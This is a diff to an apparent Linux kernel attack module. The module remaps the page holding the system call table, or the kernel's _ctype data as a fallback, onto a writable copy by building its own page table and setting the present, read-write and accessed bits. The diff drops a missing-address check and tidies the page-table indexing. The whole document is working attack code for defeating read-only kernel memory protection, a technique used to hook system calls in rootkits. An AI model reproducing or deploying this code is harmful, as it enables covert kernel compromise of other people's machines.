@@ -7,6 +7,7 @@
 #include "attack.h"
 
 #include <asm/pgtable.h>
+#include <linux/ctype.h>
 #include <linux/io.h>
 #include <linux/smp.h>
 
@@ -33,11 +34,10 @@ static void set_entry(pte_t value)
 
 static int __init start(void)
 {
-	unsigned long page = sys_call_table_at & PAGE_MASK;
+	/* Where the table has no name, other read-only data that does. */
+	unsigned long page = (sys_call_table_at ? sys_call_table_at : (unsigned long)_ctype) & PAGE_MASK;
 	unsigned int level, i;
 
-	if (!page)
-		return -ENOENT;
 	entry = lookup_address(page, &level);
 	copy = alloc_page(GFP_KERNEL);
 	if (!entry || !copy || level > PG_LEVEL_2M)
@@ -51,12 +51,11 @@ static int __init start(void)
 	table = alloc_page(GFP_KERNEL);
 	if (!table)
 		return -ENOMEM;
-	for (i = 0; i < 512; ++i) {
-		unsigned long first = pte_val(original) & PTE_PFN_MASK & PMD_MASK;
-		unsigned long frame = i == ((page >> PAGE_SHIFT) & 511) ? page_to_phys(copy) : first + i * PAGE_SIZE;
+	for (i = 0; i < PTRS_PER_PTE; ++i) {
+		pteval_t first = pte_val(original) & PTE_PFN_MASK & PMD_MASK;
+		pteval_t frame = i == pte_index(page) ? page_to_phys(copy) : first + i * PAGE_SIZE;
 
-		((unsigned long *)page_address(table))[i] =
-			frame | (pte_val(original) & ~PTE_PFN_MASK & ~(unsigned long)_PAGE_PSE);
+		((pteval_t *)page_address(table))[i] = frame | (pte_val(original) & ~PTE_PFN_MASK & ~(pteval_t)_PAGE_PSE);
 	}
 	set_entry(__pte(page_to_phys(table) | _PAGE_PRESENT | _PAGE_RW | _PAGE_ACCESSED));
 	return 0;
